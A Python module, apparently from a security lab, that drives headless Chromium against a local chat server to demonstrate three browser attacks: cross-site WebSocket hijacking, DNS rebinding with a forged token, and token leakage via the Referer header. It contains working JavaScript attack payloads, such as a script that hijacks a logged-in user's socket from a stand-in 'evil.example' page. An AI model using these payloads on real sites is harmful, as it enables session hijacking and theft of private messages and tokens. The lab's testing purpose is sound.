"""Attacks from another site's page, in a real browser, because it adds cookies by itself and trusts DNS.

Each site has a host name of its own, mapped to 127.0.0.1, because a browser treats all ports of one host
as one site. Needs Chromium, and Playwright, which the ``test`` extra installs.
"""

from __future__ import annotations

import asyncio
import tempfile
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, NamedTuple
from urllib.parse import urlsplit

from rtlab.errors import LabError
from rtlab.experiments.audit.checks_before_authentication import forged_token
from rtlab.experiments.security.login_and_message_attacks import PASSWORDS, log_in
from rtlab.lab.lab import Lab
from rtlab.processes.ports import HeldPort
from rtlab.testing.scripted_http import ReceivedRequest, ScriptedServer, response

if TYPE_CHECKING:
    from playwright.async_api import BrowserContext, Page

__all__ = [
    "SECRET",
    "Rebound",
    "chat_site",
    "hijack_socket",
    "mapped_browser",
    "read_under_rebound_name",
    "token_from_referrer",
]

#: The site under attack, and the attacker's site, whose name begins with this machine's address.
_CHAT: Final = "chat.example"
_STRANGER: Final = "127.0.0.1.evil.example"
_REBOUND: Final = "rebound.example"

SECRET: Final = "the key is under the mat"

#: Timeout in milliseconds. It is long because a browser on a busy machine is slow.
_PATIENCE: Final = 30_000

#: Any page may run this script; the browser adds the cookies of the site that it connects to.
_STEAL: Final = """(url) => {
  globalThis.heard = [];
  globalThis.stage = "connecting";
  const socket = new WebSocket(url);
  socket.onopen = () =>
    socket.send(JSON.stringify({ type: "join_room", id: "1", payload: { roomId: "staff" } }));
  socket.onmessage = (event) => {
    const message = JSON.parse(event.data);
    if (message.type === "ack") globalThis.stage = "inside";
    if (message.type === "chat") { heard.push(message.payload.text); globalThis.stage = "done"; }
  };
  socket.onclose = () => { if (stage !== "done") globalThis.stage = "closed"; };
}"""

_LOG_IN: Final = """async ([user, password]) => (await fetch("/api/auth/token", {
  method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ user, password }),
})).status"""

#: Script of Ada's own page: join the staff room and write a message.
_SAY: Final = """([url, text]) => {
  const socket = new WebSocket(url);
  socket.onopen = () => {
    socket.send(JSON.stringify({ type: "join_room", id: "1", payload: { roomId: "staff" } }));
    socket.send(JSON.stringify({ type: "chat", id: "2", roomId: "staff", payload: { text } }));
  };
}"""

#: Script of a page that counts its visitors by loading an image from another site.
_COUNT: Final = """(url) => new Promise((done) => {
  const picture = new Image();
  picture.onload = picture.onerror = done;
  picture.src = url;
})"""

_READ: Final = """async (token) => {
  const answer = await fetch("/poll", { headers: { Authorization: `Bearer ${token}` } });
  return [answer.status, await answer.text()];
}"""


class Rebound(NamedTuple):
    """What a page read from a server on the visitor's machine through DNS rebinding.

    Parameters
    ----------
    status : int
        HTTP status of the answer.
    body : str
        The whole body, which the page may read because to the browser both have the same origin.
    """

    status: int
    body: str


@asynccontextmanager
async def chat_site(**server: Any) -> AsyncGenerator[Lab]:
    """Run a lab that `mapped_browser` reaches as https://chat.example.

    Parameters
    ----------
    **server
        Further arguments of `Lab`, such as ``security="naive"``.
    """
    with HeldPort() as held:
        origin = f"https://{_CHAT}:{held.port}"
        async with Lab(tls=True, port=held.port, allow_origin=origin, **server) as lab:
            yield lab


@asynccontextmanager
async def mapped_browser() -> AsyncGenerator[BrowserContext]:
    """Run one headless Chromium that resolves every name under ``example`` to this machine.

    Its profile allows third-party cookies, so a connection to a site carries that site's cookies
    (``SameSite=None``) whichever page opens it. Browsers do so unless their user forbids it; Chromium
    blocks these cookies in private mode, and some builds block them by default.

    Raises
    ------
    LabError
        When Chromium or Playwright is missing.
    """
    try:
        from playwright.async_api import async_playwright

        from rtlab.notebook.run_notebook_in_headless_jupyterlab import FLAGS, chromium
    except ImportError:
        raise LabError("Playwright is missing: pip install 'rtlab[test]'") from None
    if chromium() is None:
        raise LabError("Chromium is missing: `rtlab doctor` says how to get it")
    with tempfile.TemporaryDirectory(prefix="rtlab-") as profile:
        _allow_cookies(Path(profile))
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch_persistent_context(
                profile,
                executable_path=chromium(),
                args=[*FLAGS, "--host-resolver-rules=MAP *.example 127.0.0.1"],
                ignore_https_errors=True,
            )
            browser.set_default_timeout(_PATIENCE)
            try:
                yield browser
            finally:
                await browser.close()


async def hijack_socket(lab: Lab, browser: BrowserContext) -> list[str]:
    """Let Ada log in at her chat and then visit an attacker's page, which connects to the chat.

    Parameters
    ----------
    lab : Lab
        Of a `chat_site`.
    browser : playwright.async_api.BrowserContext
        From `mapped_browser`.

    Returns
    -------
    list of str
        Messages of the staff room that the attacker's page received; empty if it was refused.
    """
    port = urlsplit(lab.url).port

    async def page_of_stranger(request: ReceivedRequest, writer: asyncio.StreamWriter) -> None:
        writer.write(response(200, b"<h1>Kittens</h1>", content_type="text/html"))

    async with ScriptedServer(page_of_stranger) as stranger, _page(browser) as ada, _page(browser) as page:
        await ada.goto(f"https://{_CHAT}:{port}/")
        status = await ada.evaluate(_LOG_IN, ["ada", PASSWORDS["ada"]])
        if status != 200:
            raise LabError(f"expected Ada to log in, got HTTP {status}")
        await page.goto(f"http://{_STRANGER}:{urlsplit(stranger.url).port}/")
        await page.evaluate(_STEAL, f"wss://{_CHAT}:{port}/ws")
        await page.wait_for_function("stage !== 'connecting'")
        if await page.evaluate("stage") == "inside":
            await ada.evaluate(_SAY, [f"wss://{_CHAT}:{port}/ws", SECRET])
            await page.wait_for_function("stage !== 'inside'")
        return list(await page.evaluate("heard"))


async def read_under_rebound_name(lab: Lab, browser: BrowserContext) -> Rebound:
    """Let a page whose name resolves to this machine read ``/poll`` with an unsigned token.

    In DNS rebinding the attacker's DNS server returns its own machine's address until the page is loaded,
    and 127.0.0.1 afterwards. For the browser both are one origin, so it sends no preflight and no
    ``Origin``, and the page may read the answer.

    Parameters
    ----------
    lab : Lab
        A running one, without TLS.
    browser : playwright.async_api.BrowserContext
        From `mapped_browser`.
    """
    async with _page(browser) as page:
        await page.goto(f"http://{_REBOUND}:{urlsplit(lab.url).port}/")
        status, body = await page.evaluate(_READ, forged_token())
        return Rebound(int(status), str(body))


async def token_from_referrer(lab: Lab, browser: BrowserContext) -> str:
    """Let Ada open a link with her token in it, to a page that loads an image from another site.

    Parameters
    ----------
    lab : Lab
        A running one, without TLS.
    browser : playwright.async_api.BrowserContext
        From `mapped_browser`.

    Returns
    -------
    str
        The ``Referer`` header that the other site's server received; empty if there was none.
    """
    told = ""

    async def counter(request: ReceivedRequest, writer: asyncio.StreamWriter) -> None:
        nonlocal told
        told = request.headers.get("referer", b"").decode("latin-1")
        writer.write(response(404))

    token = (await log_in(lab, "ada"))["accessToken"]
    async with ScriptedServer(counter) as stranger, _page(browser) as page:
        await page.goto(f"http://127.0.0.1:{urlsplit(lab.url).port}/?token={token}")
        await page.evaluate(_COUNT, f"http://counter.example:{urlsplit(stranger.url).port}/visit.gif")
    return told


def _allow_cookies(profile: Path) -> None:
    preferences = profile / "Default" / "Preferences"
    preferences.parent.mkdir()
    preferences.write_text('{"profile": {"cookie_controls_mode": 0, "block_third_party_cookies": false}}')


@asynccontextmanager
async def _page(browser: BrowserContext) -> AsyncGenerator[Page]:
    await browser.clear_cookies()  # cookies ignore ports, so those of another lab would be sent too
    page = await browser.new_page()
    try:
        yield page
    finally:
        await page.close()
